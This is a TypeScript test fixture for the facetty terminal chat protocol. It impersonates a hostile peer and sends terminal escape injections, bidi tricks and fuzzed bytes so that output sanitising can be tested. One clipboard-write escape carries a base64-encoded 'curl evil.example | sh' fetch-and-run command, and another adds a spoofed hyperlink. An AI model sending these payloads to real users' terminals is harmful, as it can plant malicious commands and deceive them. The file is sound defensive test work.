/**
 * A facetty v2 peer that is correct on the wire and hostile in its words: it calls (or takes a
 * call) through the real greeting, TLS and auth, then sends a display name, chat messages and a
 * goodbye reason made of whatever bytes it is given, and leaves.
 */
import net from 'node:net';
import fc from 'fast-check';
import {readExactly} from '../../source/session/read.js';
import {authenticate, startTls} from '../../source/session/secure.js';
import {ephemeralIdentity} from '../../source/trust/identity.js';
import {bytesEqual, seedGreeting, tlsMagic} from '../../source/protocol/handshake.js';
import {encodeSeedShape} from '../../source/protocol/seed.js';
import {readShapeMessage} from '../../source/session/answered.js';
import {
	allCapabilities,
	messageType,
	v2MaxAgentBytes,
	v2MaxChatBytes,
	v2MaxReasonBytes,
} from '../../source/protocol/v2.js';
import {secureConnect, sleep} from '../hostile/attacks.js';

export type HostileWords = {
	/** Bytes after "name=" in hello's agent. */
	readonly name: Uint8Array;
	readonly chats: readonly Uint8Array[];
	readonly reason: Uint8Array;
};

/** The injections issue 10 found, as one peer would send them. */
export const knownInjections: HostileWords = {
	name: Buffer.from('Eve\u200b\u202e\x1b]0;owned\x07'),
	chats: [
		Buffer.from('title\x1b]0;you have been owned\x07'),
		Buffer.from('clip\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'),
		Buffer.from('\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\'),
		Buffer.from('\x1b[1;31mred\x1b[0m'),
		Buffer.from('ask\x1b[6n'),
		Buffer.from('dcs\x1bP1$r0m\x1b\\'),
		Buffer.from([0x63, 0x31, 0xc2, 0x9b, 0x32, 0x4a]),
		Buffer.from('bidi\u202Efdp.exe zero\u200bwidth'),
	],
	reason: Buffer.from('bye\x1b]0;owned\x07\n1\n2\n3\n4\n5\x1b[2J'),
};

/**
 * What facetty must never pass on from outside: C0 but the line feed (so also ESC), DEL, C1, bidi
 * controls and zero-width characters.
 */
export const foreign =
	/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]/u;

/** Pieces of what a hostile peer sends: escapes, controls, bidi and zero-width characters, wide text. */
export const dangerous = fc.constantFrom(
	'\x1b',
	'\x1b[',
	'\x1b]0;',
	'\x1b]52;c;',
	'\x1b]8;;',
	'\x07',
	'\x1b\\',
	'\x1bP',
	'\x1b[6n',
	'\x1b[2J',
	'\x1b[31m',
	'\u009b',
	'\u009d',
	'\u009c',
	'\n',
	'\r',
	'\t',
	'\u202e',
	'\u2066',
	'\u200b',
	'\u200d',
	'\ufeff',
	'\u0301',
	'日',
	'🙂',
	'a',
	' ',
	'Eve',
);
const hostileText = fc.oneof(
	{weight: 4, arbitrary: fc.array(dangerous, {maxLength: 40}).map((parts) => Buffer.from(parts.join('')))},
	{weight: 1, arbitrary: fc.string({unit: 'binary', maxLength: 120}).map((text) => Buffer.from(text))},
	{weight: 1, arbitrary: fc.uint8Array({maxLength: 120}).map((bytes) => Buffer.from(bytes))},
);
/** Whatever a peer may say: mostly valid UTF-8 full of escapes, sometimes plain garbage. */
export const hostileWords: fc.Arbitrary<HostileWords> = fc.record({
	name: hostileText,
	chats: fc.array(hostileText, {minLength: 1, maxLength: 3}),
	reason: hostileText,
});

function message(type: number, payload: Uint8Array): Buffer {
	const header = Buffer.alloc(5);
	header[0] = type;
	header.writeUInt32BE(payload.length, 1);
	return Buffer.concat([header, payload]);
}

/** hello, the chats, the goodbye, each cut to what the protocol allows. */
export function hostileMessages(words: HostileWords): Buffer {
	const agent = Buffer.concat([Buffer.from('facetty\nname='), words.name]).subarray(0, v2MaxAgentBytes);
	const hello = Buffer.alloc(6);
	hello.writeUInt16BE(2, 0);
	hello.writeUInt32BE(allCapabilities, 2);
	return Buffer.concat([
		message(messageType.hello, Buffer.concat([hello, agent])),
		...words.chats.map((chat) => message(messageType.chat, chat.subarray(0, v2MaxChatBytes))),
		message(messageType.goodbye, words.reason.subarray(0, v2MaxReasonBytes)),
	]);
}

/** Calls the listener at `port`, says its words, waits a moment and hangs up. */
export async function hostileCall(port: number, words: HostileWords): Promise<void> {
	const {socket} = await secureConnect(port);
	socket.resume();
	socket.write(hostileMessages(words));
	await sleep(300);
	socket.end();
	await sleep(100);
	socket.destroy();
}

/** A listener that takes one call at a time the way facetty does, then says `words` to the caller. */
export async function hostileListener(words: HostileWords): Promise<{port: number; close: () => void}> {
	const server = net.createServer((socket) => {
		socket.on('error', () => undefined);
		void (async () => {
			socket.write(seedGreeting);
			const answer = await readExactly(socket, 4, 5000);
			let early = answer.rest;
			if (bytesEqual(answer.bytes, seedGreeting)) {
				// A default caller: both announce themselves in the shape message, then TLS.
				socket.write(encodeSeedShape({rows: 120, cols: 160}, true));
				const theirs = await readShapeMessage(socket, early, 5000, 300);
				if (theirs.announcedEnd === undefined) throw new Error('the caller did not announce itself');
				early = theirs.bytes.subarray(theirs.announcedEnd);
			} else socket.write(tlsMagic);
			const identity = ephemeralIdentity();
			const secure = await startTls(socket, 'accepter', identity, early, 5000);
			secure.on('error', () => undefined);
			await authenticate(secure, 'accepter', identity, undefined, 5000);
			secure.resume();
			secure.write(hostileMessages(words));
			await sleep(300);
			secure.end();
		})().catch(() => socket.destroy());
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	const address = server.address() as net.AddressInfo;
	return {port: address.port, close: () => server.close()};
}
